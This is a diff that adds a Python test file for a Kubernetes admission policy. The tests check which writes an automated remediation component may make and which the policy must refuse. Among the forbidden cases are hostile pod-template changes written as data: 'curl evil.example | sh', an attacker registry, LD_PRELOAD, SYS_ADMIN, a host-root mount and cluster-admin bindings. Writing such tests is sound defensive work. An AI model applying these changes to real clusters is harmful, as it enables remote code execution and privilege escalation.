@@ -1,0 +1,297 @@
+"""What remediation may write, and what it may not, as one write each."""
+
+from __future__ import annotations
+
+import functools
+from collections.abc import Callable
+from typing import Any
+
+from kubernetes import client
+
+from tests.integration.runbook_action.admission.scene import (
+    REGISTRIES,
+    RESTART,
+    RUN_BEFORE,
+    RUNNING,
+    WORKLOADS,
+    Scene,
+    spec_of_a_workload,
+    template,
+)
+
+
+def set_in(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
+    """A change of a template: one field of the pod, or, after ``main.``, of its container."""
+
+    def change(wanted: dict[str, Any]) -> None:
+        of, _, name = path.rpartition(".")
+        target = wanted["spec"]["containers"][0] if of == "main" else wanted["spec"]
+        target[name] = value
+
+    return change
+
+
+def label_pods(wanted: dict[str, Any]) -> None:
+    wanted["metadata"]["labels"]["team"] = "another"
+
+
+def annotate_pods(wanted: dict[str, Any]) -> None:
+    wanted["metadata"]["annotations"] = {"vault.hashicorp.com/agent-inject": "true"}
+
+
+def another_container(wanted: dict[str, Any]) -> None:
+    wanted["spec"]["containers"].append({"name": "more", "image": RUNNING})
+
+
+MARKS = {"metadata": {"annotations": {"sre-platform/incident-id": "1/1"}}}
+OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}
+
+ALLOWED: dict[str, Callable[[Scene], Any]] = {
+    **{
+        f"{write} of a {kind}": act
+        for kind in WORKLOADS
+        for write, act in {
+            "the marks": lambda scene, kind=kind: scene.patch(kind, MARKS),
+            "a restart": lambda scene, kind=kind: scene.patch(
+                kind, {"spec": {"template": {"metadata": {"annotations": RESTART}}}}
+            ),
+            "a roll back": lambda scene, kind=kind: scene.put_template(kind, template(RUN_BEFORE)),
+            "a roll back with the marks of a restart": lambda scene, kind=kind: scene.put_template(
+                kind,
+                {
+                    **template(RUN_BEFORE),
+                    "metadata": {"labels": {"app": "checkout"}, "annotations": RESTART},
+                },
+            ),
+            "an image of a listed repository": lambda scene, kind=kind: scene.changed(
+                kind, set_in("main.image", "team.example/tools/new:7")
+            ),
+        }.items()
+    },
+    "replicas of a deployment": lambda scene: scene.patch("deployment", {"spec": {"replicas": 4}}),
+    "replicas of a stateful_set": lambda scene: scene.patch(
+        "stateful_set", {"spec": {"replicas": 4}}
+    ),
+    "an autoscaler's minimum": lambda scene: scene.patch(
+        "horizontal_pod_autoscaler", {"spec": {"minReplicas": 2}}
+    ),
+    "an autoscaler's maximum": lambda scene: scene.patch(
+        "horizontal_pod_autoscaler", {**MARKS, "spec": {"maxReplicas": 9}}
+    ),
+    "a larger claim": lambda scene: scene.patch(
+        "persistent_volume_claim",
+        {**MARKS, "spec": {"resources": {"requests": {"storage": "2Gi"}}}},
+    ),
+    "cordon": lambda scene: scene.patch("node", {**MARKS, "spec": {"unschedulable": True}}),
+    "a job again": lambda scene: scene.create_job("team.example/tools:1"),
+    "the question what is allowed": lambda scene: scene.api(
+        client.AuthorizationV1Api
+    ).create_self_subject_access_review(
+        {"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}}, dry_run="All"
+    ),
+    "an event": lambda scene: scene.core.create_namespaced_event(
+        scene.namespace,
+        {
+            "metadata": {"name": "told"},
+            "involvedObject": {"kind": "Deployment", "namespace": scene.namespace},
+        },
+        dry_run="All",
+    ),
+}
+
+TEMPLATE = "remediation changes of a pod template only"
+FIELDS = "remediation changes only"
+KIND = "nothing of this kind"
+CHANGED_TEMPLATES: dict[str, Callable[[dict[str, Any]], None]] = {
+    "an image that never ran": set_in("main.image", "team.example/checkout:3"),
+    "an image of another registry": set_in("main.image", "evil.example/checkout:1"),
+    "an image on another port of a listed host": set_in("main.image", "localhost:5000/evil:1"),
+    "a repository whose name only begins like a listed one": set_in(
+        "main.image", "team.example/tools-of-others:1"
+    ),
+    "a command": set_in("main.command", ["sh", "-c", "curl evil.example | sh"]),
+    "arguments": set_in("main.args", ["--dump"]),
+    "a variable": set_in("main.env", [{"name": "LD_PRELOAD", "value": "libother.so"}]),
+    "a secret as variables": set_in("main.envFrom", [{"secretRef": {"name": "other"}}]),
+    "privileges": set_in("main.securityContext", {"capabilities": {"add": ["SYS_ADMIN"]}}),
+    "a hook that runs something": set_in(
+        "main.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}
+    ),
+    "another container": another_container,
+    "another service account": set_in("serviceAccountName", "cluster-admin"),
+    "the node's network": set_in("hostNetwork", True),
+    "a folder of the node": set_in("volumes", [{"name": "root", "hostPath": {"path": "/"}}]),
+    "a secret as a volume": set_in("volumes", [{"name": "s", "secret": {"secretName": "other"}}]),
+    "a node by name": set_in("nodeName", "control-plane"),
+    "labels of the pods": label_pods,
+    "annotations of the pods": annotate_pods,
+}
+
+
+def _changed(kind: str, change: Callable[[dict[str, Any]], None], scene: Scene) -> Any:
+    return scene.changed(kind, change)
+
+
+FORBIDDEN: dict[str, tuple[str, Callable[[Scene], Any]]] = {
+    **{
+        f"{what} in a {kind}": (
+            TEMPLATE,
+            functools.partial(_changed, kind, change),
+        )
+        for kind in WORKLOADS
+        for what, change in CHANGED_TEMPLATES.items()
+        if kind == "deployment" or what in ("an image that never ran", "another service account")
+    },
+    "a roll back with one thing more": (
+        TEMPLATE,
+        lambda scene: scene.put_template("deployment", template(RUN_BEFORE, hostPID=True)),
+    ),
+    "a listed image and a command": (
+        TEMPLATE,
+        lambda scene: scene.put_template(
+            "deployment",
+            template() | {"spec": {**template("team.example/tools:1")["spec"], "hostPID": True}},
+        ),
+    ),
+    "pausing": (FIELDS, lambda scene: scene.patch("deployment", {"spec": {"paused": True}})),
+    "the update strategy": (
+        FIELDS,
+        lambda scene: scene.patch(
+            "deployment", {"spec": {"strategy": {"rollingUpdate": {"maxSurge": 9}}}}
+        ),
+    ),
+    "a label": (
+        "no label",
+        lambda scene: scene.patch("deployment", {"metadata": {"labels": {"a": "b"}}}),
+    ),
+    "an owner": (
+        "no label, owner",
+        lambda scene: scene.patch("deployment", {"metadata": {"ownerReferences": [OWNER]}}),
+    ),
+    "a finalizer": (
+        "or finalizer",
+        lambda scene: scene.patch("deployment", {"metadata": {"finalizers": ["a.example/b"]}}),
+    ),
+    "somebody else's annotation": (
+        "no annotation but its own",
+        lambda scene: scene.patch("deployment", {"metadata": {"annotations": {"a": "b"}}}),
+    ),
+    "the refusal of remediation": (
+        "not sre-platform/remediation",
+        lambda scene: scene.patch(
+            "deployment", {"metadata": {"annotations": {"sre-platform/remediation": "on"}}}
+        ),
+    ),
+    "a history of its own making": (
+        "what has run before",
+        lambda scene: scene.patch(
+            "deployment", {"metadata": {"annotations": {"sre-platform/ran-5": "anything"}}}
+        ),
+    ),
+    "the autoscaler's target": (
+        FIELDS,
+        lambda scene: scene.patch(
+            "horizontal_pod_autoscaler", {"spec": {"scaleTargetRef": {"name": "other"}}}
+        ),
+    ),
+    "the autoscaler's metrics": (
+        FIELDS,
+        lambda scene: scene.patch(
+            "horizontal_pod_autoscaler",
+            {"spec": {"behavior": {"scaleDown": {"selectPolicy": "Disabled"}}}},
+        ),
+    ),
+    "a taint": (
+        "no taint",
+        lambda scene: scene.patch(
+            "node", {"spec": {"taints": [{"key": "a", "effect": "NoExecute"}]}}
+        ),
+    ),
+    "a label of a node": (
+        "no label",
+        lambda scene: scene.patch("node", {"metadata": {"labels": {"zone": "b"}}}),
+    ),
+    "the provider of a node": (
+        "spec.unschedulable",
+        lambda scene: scene.patch("node", {"spec": {"providerID": "aws:///x"}}),
+    ),
+    "a smaller claim": (
+        "only to more",
+        lambda scene: scene.patch(
+            "persistent_volume_claim", {"spec": {"resources": {"requests": {"storage": "500Mi"}}}}
+        ),
+    ),
+    "another volume for a claim": (
+        "only the storage",
+        lambda scene: scene.patch(
+            "persistent_volume_claim", {"spec": {"volumeName": "of-somebody-else"}}
+        ),
+    ),
+    "a job of an unlisted image": ("runs only images", lambda scene: scene.create_job()),
+    "a job under another account": (
+        "as the service account default",
+        lambda scene: scene.create_job("team.example/tools:1", serviceAccountName="admin"),
+    ),
+    "a job in the node's network": (
+        "nothing of its node",
+        lambda scene: scene.create_job("team.example/tools:1", hostNetwork=True),
+    ),
+    "a job with a folder of the node": (
+        "nothing of its node",
+        lambda scene: scene.create_job(
+            "team.example/tools:1", volumes=[{"name": "root", "hostPath": {"path": "/"}}]
+        ),
+    ),
+    "a deployment": (
+        KIND,
+        lambda scene: scene.api(client.AppsV1Api).create_namespaced_deployment(
+            scene.namespace, {"metadata": {"name": "x"}, **spec_of_a_workload()}, dry_run="All"
+        ),
+    ),
+    "the end of a deployment": (
+        KIND,
+        lambda scene: scene.api(client.AppsV1Api).delete_namespaced_deployment(
+            "checkout", scene.namespace, dry_run="All"
+        ),
+    ),
+    "a pod": (
+        KIND,
+        lambda scene: scene.core.create_namespaced_pod(
+            scene.namespace, {"metadata": {"name": "x"}, "spec": template()["spec"]}, dry_run="All"
+        ),
+    ),
+    "a secret": (
+        KIND,
+        lambda scene: scene.core.create_namespaced_secret(
+            scene.namespace, {"metadata": {"name": "x"}}, dry_run="All"
+        ),
+    ),
+    "the namespace's list of registries": (
+        KIND,
+        lambda scene: scene.core.patch_namespace(
+            scene.namespace,
+            {"metadata": {"annotations": {REGISTRIES: "evil.example"}}},
+            dry_run="All",
+        ),
+    ),
+    "a token": (
+        KIND,
+        lambda scene: scene.core.create_namespaced_service_account_token(
+            "default", scene.namespace, {"spec": {"audiences": []}}, dry_run="All"
+        ),
+    ),
+    "a binding of roles": (
+        KIND,
+        lambda scene: scene.api(client.RbacAuthorizationV1Api).create_cluster_role_binding(
+            {
+                "metadata": {"name": "x"},
+                "roleRef": {
+                    "apiGroup": "rbac.authorization.k8s.io",
+                    "kind": "ClusterRole",
+                    "name": "cluster-admin",
+                },
+            },
+            dry_run="All",
+        ),
+    ),
+}
